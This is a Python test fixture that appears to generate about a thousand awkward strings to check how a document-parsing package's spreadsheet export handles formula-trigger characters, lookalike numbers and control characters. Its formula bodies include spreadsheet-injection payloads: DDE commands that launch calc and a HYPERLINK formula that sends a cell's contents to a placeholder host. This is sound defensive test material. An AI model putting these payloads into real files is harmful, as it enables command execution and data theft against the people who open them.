"""A thousand texts that a spreadsheet is tempted to change, as records of a document."""

from __future__ import annotations

import itertools

from planparse.model import Document, DocumentFacts, Target

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\t=", " =", "'", "'=", '"=', "\u200b=", "%", "|", "{=", "#")
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/?leak="&A1,"点此")',
    'WEBSERVICE("http://example.invalid")',
    'DDE("cmd";"/C calc";"x")',
    "2025年目标",
    "学位,800个",
    "甲\n乙",
    'a"b""c',
)
LOOKALIKES = (
    "1-2", "3-5", "1/3", "0/3/2", "1:15", "12:30", "2025-01-02", "2025/1/2", "2025年3月5日", "3月5日", "Jan 5", "5 May",
    "1E5", "12345678e012", "00123", "000000000000", "010203040506", "123456789012345678", "1e400", "0x1F", "1.10",
    "0.10", "1,200", "96%", "96.50%", "１２３", "1 2/3", "¥100", "$5", "(5)", "5-", ".5", "5.", "nan", "inf",
    "TRUE", "false", "NULL", "N/A", "#N/A", "#REF!", "_x0041_", "_x005F_x0041_", "<b>&amp;</b>", "]]>",
    "[red]x[/red]", "[/]", "\x1b[31mx", " 前后空格 ", "　全角空格　", "𠮷野家𰻞", "e\u0301", "\u202eabc",
    "长" * 40_000, "x" * 40_000, "𠮷" * 20_000,
)  # fmt: skip
CONTROLS = (*(f"甲{chr(code)}乙" for code in range(1, 32) if code != 13), "甲\x7f乙", "甲\x85乙", "甲\u2028乙")
NUMBERS = (0, 1, 93, 0.1, 0.274, 1e-7, 140_000_000, 123456789012345, 123456789012345678, 0.1234567890123456, 10**20)
TEXTS = tuple(
    itertools.islice(
        itertools.chain(
            LOOKALIKES,
            CONTROLS,
            (sign + body for sign in SIGNS for body in BODIES),
            (sign + text[:99] for sign in SIGNS for text in (*LOOKALIKES, *CONTROLS)),
        ),
        1000,
    )
)


def document(texts: tuple[str, ...] = TEXTS) -> Document:
    """A document of one record a text, which is its indicator and its sentence."""
    facts = DocumentFacts(
        source="=1+1.txt", sha256="0" * 64, media_type="text/plain", pages=None, characters=0, title="@标题"
    )
    targets = [
        Target(
            id=f"{number:012d}",
            status=("planned", "achieved")[number % 2],
            kind="count",
            indicator=text,
            value=NUMBERS[number % len(NUMBERS)],
            quote="800个",
            sentence=text,
            start=0,
            end=4,
            rule="quantity.count",
            confidence=0.98,
        )
        for number, text in enumerate(texts)
    ]
    return Document(document=facts, targets=targets)
